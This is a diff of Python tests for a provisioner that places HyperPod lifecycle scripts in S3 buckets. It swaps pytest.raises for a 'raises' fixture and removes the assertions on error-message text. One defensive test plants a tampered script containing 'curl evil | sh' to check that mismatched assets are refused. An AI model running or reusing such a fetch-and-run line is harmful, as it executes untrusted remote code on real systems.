@@ -9,6 +9,7 @@ from hyperpod_shared.content import content_digest
 from hyperpod_shared.errors import ProvisioningError
 from provisioner.framework.turn import GivenUpError
 from provisioner.lifecycle_scripts import LifecycleScripts
+from tests.conftest import Raises
 from tests.support.provisioner.cloudformation import OTHER_STACK_ID, Framework, Time
 from tests.support.provisioner.fake_s3 import FakeS3, client_error, zipped
 
@@ -162,35 +163,35 @@ def test_delete_when_the_bucket_or_the_objects_are_gone(stack: Framework, s3: Fa
     assert stack.delete().complete
 
 
-def test_objects_that_s3_keeps_are_a_failure(stack: Framework, s3: FakeS3) -> None:
+def test_objects_that_s3_keeps_are_a_failure(stack: Framework, s3: FakeS3, raises: Raises) -> None:
     stack.create(properties("on_create.sh"))
     s3.kept = [{"Key": "on_create.sh", "Code": "AccessDenied", "Message": "Access Denied"}]
-    with pytest.raises(ProvisioningError, match=r"on_create\.sh: AccessDenied"):
+    with raises(ProvisioningError):
         stack.delete()
 
 
-def test_failed_create_can_be_deleted(stack: Framework, s3: FakeS3) -> None:
+def test_failed_create_can_be_deleted(stack: Framework, s3: FakeS3, raises: Raises) -> None:
     s3.put_error = client_error("AccessDenied", "PutObject")
-    with pytest.raises(ProvisioningError, match="could not be put into the bucket"):
+    with raises(ProvisioningError):
         stack.create(properties("on_create.sh"))
     assert stack.delete().complete
 
 
 @pytest.mark.parametrize(
-    ("change", "message"),
+    "change",
     [
-        ({"Keys": '["absent.sh"]'}, r"absent\.sh is not in s3://assets/one\.zip"),
-        ({"Keys": '{"a": 1}'}, "Keys must be a JSON list"),
-        ({"Keys": "[1]"}, "Keys must be a JSON list"),
-        ({"Files": "[]"}, "Files must be a JSON object"),
-        ({"Files": '{"deployment.env": 1}'}, "Files must be a JSON object of strings"),
-        ({"SourceKey": "absent.zip"}, r"s3://assets/absent\.zip does not exist"),
+        {"Keys": '["absent.sh"]'},
+        {"Keys": '{"a": 1}'},
+        {"Keys": "[1]"},
+        {"Files": "[]"},
+        {"Files": '{"deployment.env": 1}'},
+        {"SourceKey": "absent.zip"},
     ],
 )
 def test_bad_requests_change_nothing(
-    stack: Framework, s3: FakeS3, change: dict[str, str], message: str
+    stack: Framework, s3: FakeS3, change: dict[str, str], raises: Raises
 ) -> None:
-    with pytest.raises(ProvisioningError, match=message):
+    with raises(ProvisioningError):
         stack.create({**properties("on_create.sh"), **change})
     assert s3.puts == []
 
@@ -198,29 +199,25 @@ def test_bad_requests_change_nothing(
 DIGEST = content_digest(["on_create.sh"], read=lambda _: b"#!/bin/sh\n")
 
 
-def test_an_asset_that_holds_something_else_is_refused(stack: Framework, s3: FakeS3) -> None:
+def test_an_asset_that_holds_something_else_is_refused(
+    stack: Framework, s3: FakeS3, raises: Raises
+) -> None:
     wanted = properties("on_create.sh") | {"SourceDigest": DIGEST}
     stack.create(wanted)
     stored = list(s3.buckets[BUCKET])
 
     for planted in ({"on_create.sh": b"curl evil | sh\n"}, {"on_create.sh": b"", "x": b""}):
         s3.add("assets", "one.zip", zipped(planted))
-        with pytest.raises(ProvisioningError) as refused:
+        with raises(ProvisioningError):
             stack.update(wanted | {"Files": json.dumps({"deployment.env": "A=1\n"})})
-        assert str(refused.value).startswith(
-            "The asset s3://assets/one.zip has other content than the template expects, and is "
-            "not used: the content has the digest sha256:"
-        )
-        assert f"the template names {DIGEST}. Find out who wrote it" in str(refused.value)
-        assert "delete it with `aws s3 rm s3://assets/one.zip`, then deploy" in str(refused.value)
     assert s3.buckets[BUCKET] == stored
 
 
 def test_a_bucket_of_another_account_is_neither_read_nor_written(
-    stack: Framework, s3: FakeS3
+    stack: Framework, s3: FakeS3, raises: Raises
 ) -> None:
     s3.account = "999999999999"
-    with pytest.raises(ProvisioningError, match="AccessDenied"):
+    with raises(ProvisioningError):
         stack.create(properties("on_create.sh"))
     assert s3.puts == []
 
@@ -249,18 +246,14 @@ def test_what_the_user_has_in_a_bucket_survives_create_update_and_destroy(
     assert s3.buckets[BUCKET] == theirs
 
 
-def test_an_object_of_others_is_refused_and_stays(stack: Framework, s3: FakeS3) -> None:
+def test_an_object_of_others_is_refused_and_stays(
+    stack: Framework, s3: FakeS3, raises: Raises
+) -> None:
     s3.add(BUCKET, "hyperpod/ml/lib/disk.sh", b"theirs")
     stored = list(s3.buckets[BUCKET])
 
-    with pytest.raises(ProvisioningError) as refused:
+    with raises(ProvisioningError):
         stack.create(of_user("on_create.sh", "lib/disk.sh"))
-    assert str(refused.value) == (
-        "The bucket sagemaker-ml has an object hyperpod/ml/lib/disk.sh that is not of this "
-        "deployment: it stays as it is. Set lifecycle_scripts.prefix to one that holds nothing, or "
-        "move the object away (`aws s3 mv s3://sagemaker-ml/hyperpod/ml/lib/disk.sh ...`), then "
-        "deploy again."
-    )
     assert s3.buckets[BUCKET] == stored
 
     # One that is deleted is not in the way; its versions stay.
@@ -272,11 +265,11 @@ def test_an_object_of_others_is_refused_and_stays(stack: Framework, s3: FakeS3) 
 
 
 def test_an_update_refuses_what_is_new_to_it_and_a_rollback_nothing(
-    stack: Framework, s3: FakeS3
+    stack: Framework, s3: FakeS3, raises: Raises
 ) -> None:
     stack.create(of_user("on_create.sh"))
     s3.add(BUCKET, "hyperpod/ml/README", b"theirs")
-    with pytest.raises(ProvisioningError, match="object hyperpod/ml/README that is not of this"):
+    with raises(ProvisioningError):
         stack.update(of_user("on_create.sh", "README"))
 
     stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
@@ -295,7 +288,9 @@ def test_a_create_that_runs_twice_finds_its_own(stack: Framework, s3: FakeS3) ->
     assert s3.keys(BUCKET) == []
 
 
-def test_two_deployments_in_one_bucket_leave_each_other_alone(stack: Framework, s3: FakeS3) -> None:
+def test_two_deployments_in_one_bucket_leave_each_other_alone(
+    stack: Framework, s3: FakeS3, raises: Raises
+) -> None:
     other = Framework(
         resource=LifecycleScripts(s3=s3),
         resource_type="Custom::LifecycleScripts",
@@ -303,7 +298,7 @@ def test_two_deployments_in_one_bucket_leave_each_other_alone(stack: Framework, 
         stack_id=OTHER_STACK_ID,
     )
     stack.create(of_user("on_create.sh"))
-    with pytest.raises(ProvisioningError, match="not of this deployment"):
+    with raises(ProvisioningError):
         other.create(of_user("on_create.sh"))
     other.create(of_user("on_create.sh", prefix="hyperpod/other"))
     assert stack.delete().complete
